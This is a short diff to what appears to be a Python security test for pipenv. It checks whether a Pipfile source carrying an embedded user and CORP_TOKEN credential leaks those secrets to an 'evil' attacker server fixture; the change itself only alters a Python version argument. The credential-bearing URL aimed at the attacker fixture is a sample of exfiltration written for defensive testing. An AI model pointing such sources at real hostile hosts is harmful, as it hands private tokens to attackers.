@@ -39,7 +39,7 @@ def own(world: World, index: PrivateIndex) -> World:
 def test_a_pipfile_source_of_our_name_on_another_server_gets_nothing(own: World, evil: Attacker) -> None:
     own.use(toolchains.program("pipenv"))
     del own.environ["VIRTUAL_ENV"]
-    own.environ["PIPENV_DEFAULT_PYTHON_VERSION"] = str(toolchains.python_for("3.11", "3.12", "3.13"))
+    own.environ["PIPENV_DEFAULT_PYTHON_VERSION"] = str(toolchains.python_for())
     pipfile = '[[source]]\nurl = "{}"\nverify_ssl = false\nname = "corp"\n\n[packages]\ncorp-lib = {{ version = "*", index = "corp" }}\n'
     (own.cwd / "Pipfile").write_text(pipfile.format(f"http://{USER}:${{CORP_TOKEN}}@localhost:{evil.port}/simple/"))
     own.run("pipenv", "lock", bare=True, TMPDIR=str(own.folder / "config"))  # it leaves the password in a file there
